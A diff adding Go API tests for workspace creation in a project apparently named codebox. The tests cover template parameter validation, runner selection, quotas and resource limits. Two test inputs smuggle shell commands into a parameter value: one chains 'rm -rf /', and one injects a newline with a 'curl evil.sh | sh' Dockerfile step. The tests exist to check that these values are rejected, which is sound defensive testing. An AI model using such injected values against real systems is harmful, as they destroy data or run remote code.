@@ -4,13 +4,17 @@ import (
 	"fmt"
 	"net/http"
 	"net/http/httptest"
+	"path/filepath"
 	"testing"
+	"time"
 
 	"github.com/stretchr/testify/assert"
+	dbconn "gitlab.com/codebox4073715/codebox/db/connection"
 	"gitlab.com/codebox4073715/codebox/httpserver"
 	"gitlab.com/codebox4073715/codebox/httpserver/api/users/serializers"
 	"gitlab.com/codebox4073715/codebox/httpserver/api/users/workspaces"
 	"gitlab.com/codebox4073715/codebox/testutils"
+	"gitlab.com/codebox4073715/codebox/utils/targz"
 
 	"gitlab.com/codebox4073715/codebox/db/models"
 )
@@ -117,7 +121,7 @@ func TestCreateWorkspaceFromTemplateSource(t *testing.T) {
 		}
 
 		// create a template and a template version
-		template, err := models.CreateWorkspaceTemplate("Test Template", "docker_compose", "", "")
+		template, err := models.CreateWorkspaceTemplate("Test Template", "docker_compose", "", "", 0)
 		if err != nil {
 			t.Errorf("Failed to create template: '%s'\n", err)
 			t.FailNow()
@@ -168,6 +172,131 @@ func TestCreateWorkspaceFromTemplateSource(t *testing.T) {
 	})
 }
 
+/*
+Try to create a workspace from a template version with parameters,
+the values are validated and rendered in the files of the template
+*/
+func TestCreateWorkspaceWithTemplateParameters(t *testing.T) {
+	testutils.WithSetupAndTearDownTestEnvironment(t, func(t *testing.T) {
+		router := httpserver.SetupRouter()
+
+		user, err := models.RetrieveUserByEmail("user1@user.com")
+		if err != nil || user == nil {
+			t.Fatalf("Failed to retrieve test user: '%s'", err)
+		}
+
+		runners, err := models.ListRunners(1, 0)
+		if err != nil || len(runners) == 0 {
+			t.Fatalf("Failed to retrieve test runner: '%s'", err)
+		}
+
+		template, err := models.CreateWorkspaceTemplate("Test Template", "docker_compose", "", "", 0)
+		if err != nil {
+			t.Fatalf("Failed to create template: '%s'", err)
+		}
+
+		templateVersion, err := models.CreateTemplateVersion(*template, "v1.0.0", *user, "docker-compose.yml")
+		if err != nil {
+			t.Fatalf("Failed to create template version: '%s'", err)
+		}
+
+		defaultDebug := "false"
+		defaultBranch := "main"
+		parameters := models.TemplateParameters{
+			{Name: "python_version", Type: models.TemplateParameterTypeEnum, Options: []string{"3.11", "3.12"}},
+			{Name: "debug", Type: models.TemplateParameterTypeBool, Default: &defaultDebug},
+			{Name: "branch", Type: models.TemplateParameterTypeString, Pattern: "[a-z]+", Default: &defaultBranch},
+		}
+		if err := models.ValidateTemplateParameters(parameters); err != nil {
+			t.Fatalf("Invalid template parameters: '%s'", err)
+		}
+
+		templateVersion, err = models.UpdateTemplateVersion(
+			*template,
+			*templateVersion,
+			templateVersion.Name,
+			false,
+			*user,
+			templateVersion.ConfigFilePath,
+			parameters,
+		)
+		if err != nil {
+			t.Fatalf("Failed to update template version: '%s'", err)
+		}
+
+		testCases := []struct {
+			Name            string
+			ParameterValues map[string]any
+			ExpectedCode    int
+			ExpectedDetail  string
+		}{
+			{"MissingRequired", map[string]any{}, http.StatusBadRequest, "parameter 'python_version' is required"},
+			{"InvalidOption", map[string]any{"python_version": "2.7"}, http.StatusBadRequest, "must be one of"},
+			{"UnknownParameter", map[string]any{"python_version": "3.12", "node": "20"}, http.StatusBadRequest, "unknown parameter 'node'"},
+			// the pattern must match the whole value
+			{"PartialPatternMatch", map[string]any{"python_version": "3.12", "branch": "main; rm -rf /"}, http.StatusBadRequest, "does not match"},
+			// values cannot inject new lines in the rendered files
+			{"Newline", map[string]any{"python_version": "3.12", "branch": "main\nRUN curl evil.sh | sh"}, http.StatusBadRequest, "must not contain newlines"},
+			{"Valid", map[string]any{"python_version": "3.12"}, http.StatusCreated, ""},
+		}
+
+		for _, tc := range testCases {
+			t.Run(tc.Name, func(t *testing.T) {
+				reqBody := workspaces.CreateWorkspaceRequestBody{
+					Name:                 "Test Workspace",
+					Type:                 "docker_compose",
+					RunnerID:             runners[0].ID,
+					ConfigSource:         models.WorkspaceConfigSourceTemplate,
+					TemplateVersionID:    templateVersion.ID,
+					EnvironmentVariables: []string{},
+					ParameterValues:      tc.ParameterValues,
+				}
+
+				w := httptest.NewRecorder()
+				req := testutils.CreateRequestWithJSONBody(t, "/api/v1/workspace", "POST", reqBody)
+				testutils.AuthenticateHttpRequest(t, req, *user)
+				router.ServeHTTP(w, req)
+				assert.Equal(t, tc.ExpectedCode, w.Code)
+				assert.Contains(t, w.Body.String(), tc.ExpectedDetail)
+
+				if w.Code == http.StatusCreated {
+					workspace, err := serializers.WorkspaceSerializerFromJSON(w.Body.String())
+					if err != nil {
+						t.Fatalf("Failed to parse response: '%s'", err)
+					}
+
+					assert.Equal(
+						t,
+						models.TemplateParameterValues{"python_version": "3.12", "debug": "false", "branch": "main"},
+						workspace.ParameterValues,
+					)
+				}
+			})
+		}
+
+		// the values are rendered in a copy of the sources
+		tgm := targz.TarGZManager{Filepath: templateVersion.Sources.GetAbsolutePath()}
+		if err := tgm.WriteFile("./Dockerfile", []byte("FROM python:{{ parameters.python_version }}\n")); err != nil {
+			t.Fatalf("Failed to write template file: '%s'", err)
+		}
+
+		rendered := filepath.Join(t.TempDir(), "rendered.tar.gz")
+		if err := templateVersion.RenderSources(
+			models.TemplateParameterValues{"python_version": "3.12"},
+			rendered,
+		); err != nil {
+			t.Fatalf("Failed to render template sources: '%s'", err)
+		}
+
+		renderedTgm := targz.TarGZManager{Filepath: rendered}
+		entry, err := renderedTgm.RetrieveEntry("./Dockerfile")
+		if err != nil || entry == nil {
+			t.Fatalf("Failed to retrieve rendered file: '%s'", err)
+		}
+		assert.Equal(t, "FROM python:3.12\n", string(entry.Content))
+	})
+}
+
 /*
 Try to create a workspace with invalid parameters
 */
@@ -223,6 +352,14 @@ func TestCreateWorkspaceErrors(t *testing.T) {
 				},
 				wantCode: http.StatusBadRequest,
 			},
+			{
+				name: "no runner available",
+				modifyBody: func(b *workspaces.CreateWorkspaceRequestBody) {
+					// runners in the test environment are offline
+					b.RunnerID = 0
+				},
+				wantCode: http.StatusFailedDependency,
+			},
 			{
 				name: "invalid config source",
 				modifyBody: func(b *workspaces.CreateWorkspaceRequestBody) {
@@ -280,6 +417,274 @@ func TestCreateWorkspaceErrors(t *testing.T) {
 	})
 }
 
+/*
+Create a workspace without runner, the runner is chosen automatically
+*/
+func TestCreateWorkspaceAutomaticRunnerSelection(t *testing.T) {
+	testutils.WithSetupAndTearDownTestEnvironment(t, func(t *testing.T) {
+		router := httpserver.SetupRouter()
+
+		user, err := models.RetrieveUserByEmail("user1@user.com")
+		if err != nil || user == nil {
+			t.Fatalf("Failed to retrieve test user: '%s'", err)
+		}
+
+		runners, err := models.ListRunners(1, 0)
+		if err != nil || len(runners) == 0 {
+			t.Fatalf("Failed to retrieve test runner: '%s'", err)
+		}
+
+		// mark the runner as online
+		now := time.Now()
+		runners[0].LastContact = &now
+		if err := models.UpdateRunner(runners[0]); err != nil {
+			t.Fatalf("Failed to update runner: '%s'", err)
+		}
+
+		w := httptest.NewRecorder()
+		req := testutils.CreateRequestWithJSONBody(
+			t,
+			"/api/v1/workspace",
+			"POST",
+			workspaces.CreateWorkspaceRequestBody{
+				Name:                 "Test Workspace",
+				Type:                 "docker_compose",
+				ConfigSource:         models.WorkspaceConfigSourceGit,
+				GitRepoUrl:           "https://github.com/davidebianchi03/codebox.git",
+				GitRefName:           "main",
+				ConfigSourceFilePath: "/path/to/config",
+				EnvironmentVariables: []string{},
+			},
+		)
+		testutils.AuthenticateHttpRequest(t, req, *user)
+		router.ServeHTTP(w, req)
+		assert.Equal(t, http.StatusCreated, w.Code)
+
+		createdWorkspace, err := serializers.WorkspaceSerializerFromJSON(w.Body.String())
+		if err != nil {
+			t.Fatalf("Failed to parse created workspace: '%s'", err)
+		}
+
+		workspace, err := models.RetrieveWorkspaceByUserAndId(*user, createdWorkspace.ID)
+		if err != nil || workspace == nil {
+			t.Fatalf("Failed to retrieve workspace: '%s'", err)
+		}
+		assert.NotNil(t, workspace.RunnerID)
+		assert.Equal(t, runners[0].ID, *workspace.RunnerID)
+	})
+}
+
+/*
+Try to create a workspace on a restricted runner,
+the user is not member of any allowed group
+*/
+func TestCreateWorkspaceOnRestrictedRunner(t *testing.T) {
+	testutils.WithSetupAndTearDownTestEnvironment(t, func(t *testing.T) {
+		router := httpserver.SetupRouter()
+
+		user, err := models.RetrieveUserByEmail("user1@user.com")
+		if err != nil || user == nil {
+			t.Fatalf("Failed to retrieve test user: '%s'", err)
+		}
+
+		runners, err := models.ListRunners(1, 0)
+		if err != nil || len(runners) == 0 {
+			t.Fatalf("Failed to retrieve test runner: '%s'", err)
+		}
+
+		runners[0].Restricted = true
+		if err := models.UpdateRunner(runners[0]); err != nil {
+			t.Fatalf("Failed to update runner: '%s'", err)
+		}
+
+		w := httptest.NewRecorder()
+		req := testutils.CreateRequestWithJSONBody(
+			t,
+			"/api/v1/workspace",
+			"POST",
+			workspaces.CreateWorkspaceRequestBody{
+				Name:                 "Test Workspace",
+				Type:                 "docker_compose",
+				RunnerID:             runners[0].ID,
+				ConfigSource:         models.WorkspaceConfigSourceGit,
+				GitRepoUrl:           "https://github.com/davidebianchi03/codebox.git",
+				GitRefName:           "main",
+				ConfigSourceFilePath: "/path/to/config",
+				EnvironmentVariables: []string{},
+			},
+		)
+		testutils.AuthenticateHttpRequest(t, req, *user)
+		router.ServeHTTP(w, req)
+		assert.Equal(t, http.StatusForbidden, w.Code)
+
+		// restricted runners are hidden from the list
+		w = httptest.NewRecorder()
+		req, _ = http.NewRequest(http.MethodGet, "/api/v1/runners", nil)
+		testutils.AuthenticateHttpRequest(t, req, *user)
+		router.ServeHTTP(w, req)
+		assert.Equal(t, http.StatusOK, w.Code)
+		assert.Equal(t, "[]", w.Body.String())
+	})
+}
+
+/*
+Try to create a workspace when the quota of the user has been reached,
+the user override has the precedence over the global quota
+*/
+func TestCreateWorkspaceQuotaExceeded(t *testing.T) {
+	testutils.WithSetupAndTearDownTestEnvironment(t, func(t *testing.T) {
+		router := httpserver.SetupRouter()
+
+		user, err := models.RetrieveUserByEmail("user1@user.com")
+		if err != nil || user == nil {
+			t.Fatalf("Failed to retrieve test user: '%s'", err)
+		}
+
+		runners, err := models.ListRunners(1, 0)
+		if err != nil || len(runners) == 0 {
+			t.Fatalf("Failed to retrieve test runner: '%s'", err)
+		}
+
+		maxWorkspaces := uint(0)
+		if err := models.SaveSingletonModel(&models.QuotaSettings{
+			QuotaLimits: models.QuotaLimits{MaxWorkspaces: &maxWorkspaces},
+		}); err != nil {
+			t.Fatalf("Failed to save quota settings: '%s'", err)
+		}
+
+		body := workspaces.CreateWorkspaceRequestBody{
+			Name:                 "Test Workspace",
+			Type:                 "docker_compose",
+			RunnerID:             runners[0].ID,
+			ConfigSource:         models.WorkspaceConfigSourceGit,
+			GitRepoUrl:           "https://github.com/davidebianchi03/codebox.git",
+			GitRefName:           "main",
+			ConfigSourceFilePath: "/path/to/config",
+			EnvironmentVariables: []string{},
+		}
+
+		w := httptest.NewRecorder()
+		req := testutils.CreateRequestWithJSONBody(t, "/api/v1/workspace", "POST", body)
+		testutils.AuthenticateHttpRequest(t, req, *user)
+		router.ServeHTTP(w, req)
+		assert.Equal(t, http.StatusForbidden, w.Code)
+		assert.Contains(t, w.Body.String(), "at most 0 workspaces (global limit)")
+
+		// the user override allows one workspace
+		userMaxWorkspaces := uint(1)
+		if _, err := models.SetUserQuota(*user, models.QuotaLimits{MaxWorkspaces: &userMaxWorkspaces}); err != nil {
+			t.Fatalf("Failed to set user quota: '%s'", err)
+		}
+
+		w = httptest.NewRecorder()
+		req = testutils.CreateRequestWithJSONBody(t, "/api/v1/workspace", "POST", body)
+		testutils.AuthenticateHttpRequest(t, req, *user)
+		router.ServeHTTP(w, req)
+		assert.Equal(t, http.StatusCreated, w.Code)
+
+		w = httptest.NewRecorder()
+		req = testutils.CreateRequestWithJSONBody(t, "/api/v1/workspace", "POST", body)
+		testutils.AuthenticateHttpRequest(t, req, *user)
+		router.ServeHTTP(w, req)
+		assert.Equal(t, http.StatusForbidden, w.Code)
+		assert.Contains(t, w.Body.String(), "at most 1 workspaces (user limit)")
+	})
+}
+
+/*
+Try to create a workspace with resource limits, limits above the maximum
+are refused and runners that do not advertise support for resource
+limits cannot host workspaces that request limits
+*/
+func TestCreateWorkspaceWithResourceLimits(t *testing.T) {
+	testutils.WithSetupAndTearDownTestEnvironment(t, func(t *testing.T) {
+		router := httpserver.SetupRouter()
+
+		user, err := models.RetrieveUserByEmail("user1@user.com")
+		if err != nil || user == nil {
+			t.Fatalf("Failed to retrieve test user: '%s'", err)
+		}
+
+		runners, err := models.ListRunners(1, 0)
+		if err != nil || len(runners) == 0 {
+			t.Fatalf("Failed to retrieve test runner: '%s'", err)
+		}
+
+		maxMemory := uint(2048)
+		if err := models.SaveSingletonModel(&models.ResourceLimitsSettings{
+			MaxResourceLimits: models.ResourceLimits{MemoryLimitMB: &maxMemory},
+		}); err != nil {
+			t.Fatalf("Failed to save resource limits settings: '%s'", err)
+		}
+
+		memory := uint(4096)
+		body := workspaces.CreateWorkspaceRequestBody{
+			Name:                 "Test Workspace",
+			Type:                 "docker_compose",
+			RunnerID:             runners[0].ID,
+			ConfigSource:         models.WorkspaceConfigSourceGit,
+			GitRepoUrl:           "https://github.com/davidebianchi03/codebox.git",
+			GitRefName:           "main",
+			ConfigSourceFilePath: "/path/to/config",
+			EnvironmentVariables: []string{},
+			ResourceLimits:       models.ResourceLimits{MemoryLimitMB: &memory},
+		}
+
+		w := httptest.NewRecorder()
+		req := testutils.CreateRequestWithJSONBody(t, "/api/v1/workspace", "POST", body)
+		testutils.AuthenticateHttpRequest(t, req, *user)
+		router.ServeHTTP(w, req)
+		assert.Equal(t, http.StatusBadRequest, w.Code)
+		assert.Contains(t, w.Body.String(), "memory_limit_mb cannot exceed 2048 MB")
+
+		// the maximum limits do not require the support of the runner
+		// if the workspace does not request any limit
+		w = httptest.NewRecorder()
+		req = testutils.CreateRequestWithJSONBody(t, "/api/v1/workspace", "POST", workspaces.CreateWorkspaceRequestBody{
+			Name:                 "Unlimited Workspace",
+			Type:                 body.Type,
+			RunnerID:             body.RunnerID,
+			ConfigSource:         body.ConfigSource,
+			GitRepoUrl:           body.GitRepoUrl,
+			GitRefName:           body.GitRefName,
+			ConfigSourceFilePath: body.ConfigSourceFilePath,
+			EnvironmentVariables: []string{},
+		})
+		testutils.AuthenticateHttpRequest(t, req, *user)
+		router.ServeHTTP(w, req)
+		assert.Equal(t, http.StatusCreated, w.Code)
+
+		// the test runner does not advertise support for resource limits
+		memory = 1024
+		w = httptest.NewRecorder()
+		req = testutils.CreateRequestWithJSONBody(t, "/api/v1/workspace", "POST", body)
+		testutils.AuthenticateHttpRequest(t, req, *user)
+		router.ServeHTTP(w, req)
+		assert.Equal(t, http.StatusBadRequest, w.Code)
+		assert.Contains(t, w.Body.String(), "does not support resource limits")
+
+		runners[0].Capabilities = []string{models.RunnerCapabilityResourceLimits}
+		if err := dbconn.DB.Save(&runners[0]).Error; err != nil {
+			t.Fatalf("Failed to update test runner: '%s'", err)
+		}
+
+		w = httptest.NewRecorder()
+		req = testutils.CreateRequestWithJSONBody(t, "/api/v1/workspace", "POST", body)
+		testutils.AuthenticateHttpRequest(t, req, *user)
+		router.ServeHTTP(w, req)
+		assert.Equal(t, http.StatusCreated, w.Code)
+
+		workspace, err := serializers.WorkspaceSerializerFromJSON(w.Body.String())
+		if err != nil {
+			t.Fatalf("Failed to parse response: '%s'", err)
+		}
+
+		if assert.NotNil(t, workspace.ResourceLimits.MemoryLimitMB) {
+			assert.Equal(t, uint(1024), *workspace.ResourceLimits.MemoryLimitMB)
+		}
+	})
+}
+
 /*
 Try to create a workspace without authentication
 */
@@ -694,7 +1099,7 @@ func TestStopWorkspace(t *testing.T) {
 		}
 
 		testCases := []WorkspaceStatusTestCase{
-			{models.WorkspaceStatusStarting, http.StatusConflict},
+			{models.WorkspaceStatusStarting, http.StatusOK}, // cancels the start
 			{models.WorkspaceStatusRunning, http.StatusOK},
 			{models.WorkspaceStatusStopping, http.StatusConflict},
 			{models.WorkspaceStatusStopped, http.StatusConflict},